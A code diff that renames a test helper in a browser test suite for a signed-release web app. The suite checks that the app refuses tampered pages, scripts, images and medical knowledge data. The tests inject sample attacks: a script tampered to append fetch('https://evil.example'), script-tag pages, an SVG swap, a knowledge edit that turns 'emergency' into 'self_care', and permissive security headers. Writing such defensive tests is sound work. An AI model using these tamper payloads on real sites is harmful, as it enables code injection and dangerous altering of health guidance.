@@ -14,9 +14,9 @@ const KNEE = '/knowledge/knee.json'
 
 describe.concurrent('a device that has seen a signed release', () => {
   test('opens no page that came altered', async ({ expect }) => {
-    const { page, cable, end } = await visitSigned(keyPair())
+    const { page, proxy, end } = await visitSigned(keyPair())
     const tamper = (body: string) => body.replace('</main>', `<p>${TAMPERED}</p></main>`)
-    for (const path of ['/', GOUT, '/nothing-here']) cable.alter(path, tamper)
+    for (const path of ['/', GOUT, '/nothing-here']) proxy.alter(path, tamper)
     // This one lies on the device, and is shown from there.
     await page.goto('/')
     expect(await headingOf(page)).toBe(HOME)
@@ -28,7 +28,7 @@ describe.concurrent('a device that has seen a signed release', () => {
       expect(await headingOf(page)).toBe(refusedMessages.heading)
       expect(await page.getByText(TAMPERED).count()).toBe(0)
     }
-    cable.restore(GOUT)
+    proxy.restore(GOUT)
     await page.goto(GOUT)
     expect(await headingOf(page)).toContain('Gout')
     await page.reload()
@@ -38,7 +38,7 @@ describe.concurrent('a device that has seen a signed release', () => {
   })
 
   test('uses no altered script and no altered knowledge', async ({ expect }) => {
-    const { page, cable, end } = await visitSigned(keyPair())
+    const { page, proxy, end } = await visitSigned(keyPair())
     // A script that only this page needs, which is not kept.
     const html = await fetchText('/privacy-policy')
     const script = [...html.matchAll(/\/assets\/[\w.-]+\.js/g)].map(([path]) => path)
@@ -56,17 +56,17 @@ describe.concurrent('a device that has seen a signed release', () => {
           ),
         path,
       )
-    cable.alter(own, (body) => `${body};fetch('https://evil.example')`)
-    cable.alter(KNEE, (body) => body.replace('emergency', 'self_care'))
+    proxy.alter(own, (body) => `${body};fetch('https://evil.example')`)
+    proxy.alter(KNEE, (body) => body.replace('emergency', 'self_care'))
     expect([await load(own), await load(KNEE)]).toEqual([false, false])
-    cable.restore(own)
-    cable.restore(KNEE)
+    proxy.restore(own)
+    proxy.restore(KNEE)
     expect([await load(own), await load(KNEE)]).toEqual([true, true])
     await end()
   })
 
   test('draws no altered picture, also when it comes as one that is not there', async ({ expect }) => {
-    const { page, cable, end } = await visitSigned(keyPair())
+    const { page, proxy, end } = await visitSigned(keyPair())
     const path = '/body/male-left-foot-sole.webp'
     const isDrawn = () =>
       page.evaluate(
@@ -81,10 +81,10 @@ describe.concurrent('a device that has seen a signed release', () => {
       )
     const evil = () => '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'
     for (const status of [200, 404, 410]) {
-      cable.alter(path, evil, 'image/svg+xml', {}, status)
+      proxy.alter(path, evil, 'image/svg+xml', {}, status)
       expect([status, await isDrawn()]).toEqual([status, false])
     }
-    cable.restore(path)
+    proxy.restore(path)
     expect(await isDrawn()).toBe(true)
     await end()
   })
@@ -92,34 +92,34 @@ describe.concurrent('a device that has seen a signed release', () => {
   test('runs nothing at the addresses of programs, of two types at once, or sent in reply to a form', async ({
     expect,
   }) => {
-    const { page, cable, end } = await visitSigned(keyPair())
+    const { page, proxy, end } = await visitSigned(keyPair())
     const evil = () => '<!doctype html><h1>Evil</h1><script>document.title = "It ran"</script>'
     const nosniff = { 'x-content-type-options': 'nosniff' }
-    cable.alter('/api/evil', evil, 'text/html')
-    cable.alter('/user/evil', evil, ['text/plain', 'text/html'], nosniff)
-    cable.alter(GOUT, evil, ['application/json', 'text/html'], nosniff)
+    proxy.alter('/api/evil', evil, 'text/html')
+    proxy.alter('/user/evil', evil, ['text/plain', 'text/html'], nosniff)
+    proxy.alter(GOUT, evil, ['application/json', 'text/html'], nosniff)
     for (const path of ['/api/evil', '/user/evil', GOUT]) {
       await page.goto(path)
       expect([path, await page.title()]).not.toEqual([path, 'It ran'])
       expect([path, await headingOf(page)]).toEqual([path, refusedMessages.heading])
     }
-    cable.alter('/about-us', evil, 'text/html')
+    proxy.alter('/about-us', evil, 'text/html')
     await page.goto('about:blank')
-    await page.setContent(`<form method="post" action="${cable.site}/about-us"><button>Go</button></form>`)
+    await page.setContent(`<form method="post" action="${proxy.site}/about-us"><button>Go</button></form>`)
     await page.getByRole('button').click()
     await page.waitForURL('**/about-us')
     expect(await page.title()).not.toBe('It ran')
     // Plain text is shown, but not where a page is due.
-    cable.alter(GOUT, () => TAMPERED, 'text/plain', nosniff)
+    proxy.alter(GOUT, () => TAMPERED, 'text/plain', nosniff)
     await page.goto(GOUT)
     expect(await page.getByText(TAMPERED).count()).toBe(0)
     await end()
   })
 
   test('shows a page as it was signed, whatever its headers say', async ({ expect }) => {
-    const { page, cable, end } = await visitSigned(keyPair())
+    const { page, proxy, end } = await visitSigned(keyPair())
     const elsewhere = '/elsewhere.css'
-    cable.alter(GOUT, (body) => body, 'text/plain; charset=utf-16', {
+    proxy.alter(GOUT, (body) => body, 'text/plain; charset=utf-16', {
       refresh: '0;url=/about-us',
       link: `<${elsewhere}>; rel=preload; as=style`,
       'content-security-policy': "default-src * 'unsafe-inline'",
@@ -131,7 +131,7 @@ describe.concurrent('a device that has seen a signed release', () => {
     expect(await shown!.headerValue('referrer-policy')).toBe('no-referrer')
     expect(await headingOf(page)).toContain('Gout')
     expect(new URL(page.url()).pathname).toBe(GOUT)
-    expect(cable.asked.filter((each) => each.includes(elsewhere))).toEqual([])
+    expect(proxy.asked.filter((each) => each.includes(elsewhere))).toEqual([])
     const writeHtml = () => page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<b>Evil</b>'))
     await expect(writeHtml()).rejects.toThrow('TrustedHTML')
     await end()
@@ -140,7 +140,7 @@ describe.concurrent('a device that has seen a signed release', () => {
   test('runs nothing outside the pages of its language either, when it has seen no others', async ({
     expect,
   }) => {
-    const { page, cable, end } = await visitSigned(keyPair(), { home: '/hi/' })
+    const { page, proxy, end } = await visitSigned(keyPair(), { home: '/hi/' })
     const guard = () =>
       page.evaluate(async () => (await navigator.serviceWorker.getRegistration('/'))?.active?.state)
     await expect.poll(guard, { timeout: 30_000 }).toBe('activated')
@@ -148,14 +148,14 @@ describe.concurrent('a device that has seen a signed release', () => {
     expect(await builds(page)).toBe(0)
     const evil = () => '<!doctype html><h1>Evil</h1><script>document.title = "It ran"</script>'
     for (const path of ['/', GOUT, '/nothing-here', '/hi']) {
-      cable.alter(path, evil, 'text/html')
+      proxy.alter(path, evil, 'text/html')
       await page.goto(path)
       expect([path, await page.getByText('Evil').count()]).toEqual([path, 0])
       // That it is refused stands there in the language that was read here.
       expect([path, await page.locator('html').getAttribute('lang')]).toEqual([path, 'hi'])
     }
     // Who then comes to English has its worker.
-    cable.restore('/')
+    proxy.restore('/')
     await page.goto('/')
     expect(await headingOf(page)).toBe(HOME)
     await expect.poll(() => builds(page), { timeout: 30_000 }).toBe(1)
